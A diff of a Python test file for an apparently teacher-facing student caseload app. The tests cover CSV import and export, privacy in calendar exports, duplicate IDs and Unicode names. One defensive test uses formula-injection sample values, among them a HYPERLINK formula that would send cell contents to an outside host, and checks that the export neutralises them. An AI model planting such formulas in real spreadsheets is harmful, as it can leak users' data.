@@ -286,7 +286,8 @@ def test_export_with_unknown_table_or_broken_links_changes_nothing(store, tmp_pa
         before = snapshot(target)
         with pytest.raises(ExportFormatError) as error:
             import_full_export(target, export)
-        assert "do not fit together" in str(error.value)
+        assert ("Table “student_family”, row 3, column “student_id”: 999 refers to a row of "
+                "“students” that is not in the file") in str(error.value)
         assert snapshot(target) == before
         export["tables"]["mystery"] = {"columns": ["a"], "rows": [[1]]}
         with pytest.raises(ExportFormatError):
@@ -447,4 +448,137 @@ def test_meetings_export_to_one_calendar_file(store):
     assert event.decoded("dtstart") == datetime(2026, 12, 10, 15, 30)
     assert "Room 12" in str(event.get("location"))
     assert "Nguyễn" not in str(event.get("summary"))  # calendars are shared: no full legal name
-    assert any("mai@example.org" in str(a) for a in event.get("attendee"))
+    assert event.get("attendee") is None  # nor the family's names and emails, unless asked
+    named = Calendar.from_ical(meetings_ics_bytes(store, include_names=True)).walk("VEVENT")[0]
+    assert any("mai@example.org" in str(a) for a in named.get("attendee"))
+
+
+# -- issue 13: two writers, one file -----------------------------------------------------------
+
+TWO_STUDENTS = ("Student ID,First Name,Last Name,DOB\n1001,Ann,Lee,2015-01-02\n"
+                ",Bo,Ray,2014-05-06\n")
+
+
+def test_a_preview_made_before_another_import_adds_nobody_twice(store, data_dir):
+    waiting = preview_of(store, TWO_STUDENTS)  # the dialog's preview, waiting for Import
+    assert [r.action for r in waiting.rows] == [ADD, ADD]
+    other = open_caseload(data_dir)  # a second writer on the same file gets there first
+    try:
+        apply_import(other, preview_of(other, TWO_STUDENTS))
+    finally:
+        other.db.close()
+    result = apply_import(store, waiting)
+    assert (result.added, result.unchanged) == (0, 2)
+    assert sorted(s.legal_name for s in store.list_students()) == ["Ann Lee", "Bo Ray"]
+
+
+def test_the_file_refuses_two_active_students_with_one_district_id(store):
+    import sqlite3
+
+    store.add_student(Student("Ann", "Lee", district_student_id="1001"))
+    with pytest.raises(sqlite3.IntegrityError):
+        store.db.execute("INSERT INTO students (legal_first_name, district_student_id) "
+                         "VALUES ('Annie', '1001')")
+    # Archived students and students without an ID are not held to it.
+    store.db.execute("INSERT INTO students (legal_first_name, district_student_id, archived_at) "
+                     "VALUES ('Old', '1001', '2026-01-01T00:00:00')")
+    store.add_student(Student("No", "Id"))
+    store.add_student(Student("No", "Id either"))
+    assert store.count_students() == 3 and store.count_students(archived=True) == 1
+    # The store turns the refusal into a message for the teacher.
+    bo = Student("Bo", "Ray")
+    store.add_student(bo)
+    with pytest.raises(SaveFailed) as error:
+        store.update_field("students", bo.id, "district_student_id", "1001")
+    assert "student ID" in str(error.value) and "UNIQUE" not in str(error.value)
+
+
+def test_an_import_prefers_the_active_student_when_an_archived_one_shares_the_id(store):
+    store.db.execute("INSERT INTO students (legal_first_name, district_student_id, archived_at) "
+                     "VALUES ('Old', '1001', '2026-01-01T00:00:00')")
+    active = Student("Ann", "Lee", district_student_id="1001")
+    store.add_student(active)
+    preview = preview_of(store, "Student ID,First Name,Last Name,Grade\n1001,Ann,Lee,4\n")
+    assert [(r.action, r.student_id) for r in preview.rows] == [(UPDATE, active.id)]
+
+
+# -- issue 13: the same name in two Unicode forms -------------------------------------------
+
+def test_accents_written_as_combining_marks_match_the_student_on_file(store):
+    import unicodedata
+
+    composed = Student("José", "Muñoz", date_of_birth=date(2015, 1, 2))
+    store.add_student(composed)
+    mother = FamilyMember("Zoë Muñoz", phones="555-0100")
+    store.add_family_member(mother, student_id=composed.id, relationship="mother")
+    decomposed = unicodedata.normalize("NFD", "First Name,Last Name,DOB,Parent Name\n"
+                                              "José,Muñoz,2015-01-02,Zoë Muñoz\n")
+    assert decomposed != unicodedata.normalize("NFC", decomposed)
+    preview = preview_of(store, decomposed)
+    assert [(r.action, r.student_id) for r in preview.rows] == [(UNCHANGED, composed.id)]
+    assert store.count_students() == 1 and len(store.list_family_members()) == 1
+
+
+def test_names_on_file_in_the_other_form_match_and_new_names_are_stored_composed(store):
+    import unicodedata
+
+    # An older import stored macOS's decomposed spelling.
+    store.db.execute("INSERT INTO students (legal_first_name, legal_last_name, date_of_birth) "
+                     "VALUES (?, ?, '2015-01-02')",
+                     [unicodedata.normalize("NFD", "José"), unicodedata.normalize("NFD", "Muñoz")])
+    preview = preview_of(store, "First Name,Last Name,DOB\nJosé,Muñoz,2015-01-02\n"
+                                + unicodedata.normalize("NFD", "Zoë,Dupré,2016-03-04\n"))
+    assert [r.action for r in preview.rows] == [UNCHANGED, ADD]
+    apply_import(store, preview)
+    stored = store.db.execute("SELECT legal_first_name, legal_last_name FROM students "
+                              "WHERE legal_first_name LIKE 'Zo%'").fetchone()
+    assert stored == ("Zoë", "Dupré")
+    assert all(unicodedata.is_normalized("NFC", text) for text in stored)
+
+
+# -- issue 13: what export writes, import reads ----------------------------------------------
+
+def test_csv_export_guards_formulas_and_the_round_trip_is_exact(store, tmp_path):
+    risky = Student("=HYPERLINK(\"http://example.com/?\"&A1)", "-Ana", preferred_name="@me",
+                    school="+North", strengths="'-already quoted", hopes_and_dreams="=1+1")
+    store.add_student(risky)
+    store.add_family_member(FamilyMember("-Kim", phones="+1 555 0100", email="kim@example.org"),
+                            student_id=risky.id, relationship="mother")
+    data = caseload_csv_bytes(store)
+    cells = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
+    assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
+    assert "'=HYPERLINK(\"http://example.com/?\"&A1)" in cells and "'+1 555 0100" in cells
+    assert "''-already quoted" in cells
+    target = open_caseload(tmp_path / "elsewhere")
+    try:
+        apply_import(target, preview_of(target, data))
+        assert student_facts(target) == student_facts(store)
+    finally:
+        target.db.close()
+
+
+def test_a_300_kb_note_goes_out_and_comes_back(store, tmp_path):
+    note = "\n".join(f"Week {i}: read a chapter aloud and retold it in order." for i in range(6000))
+    assert len(note) > 300_000
+    store.add_student(Student("Ann", "Lee", strengths=note))
+    data = caseload_csv_bytes(store)
+    target = open_caseload(tmp_path / "elsewhere")
+    try:
+        preview = preview_of(target, data)
+        assert [r.action for r in preview.rows] == [ADD]
+        apply_import(target, preview)
+        assert target.list_students()[0].strengths == note
+    finally:
+        target.db.close()
+
+
+def test_import_summaries_count_in_words(store):
+    result = apply_import(store, preview_of(store, "First Name,Parent Name,Parent Phone\n"
+                                                   "Ann,Kim,555\n"))
+    assert result.summary() == "Imported: 1 student added, 0 updated, 1 parent/guardian added."
+    preview = preview_of(store, "First Name,DOB\nBo,2015-13-45\nCy,2015-01-01\n")
+    with pytest.raises(ImportRefused) as error:
+        apply_import(store, preview)
+    assert str(error.value).startswith("1 row was rejected")
+    result = apply_import(store, preview, skip_rejected=True)
+    assert result.summary() == "Imported: 1 student added, 0 updated; 1 rejected row skipped."
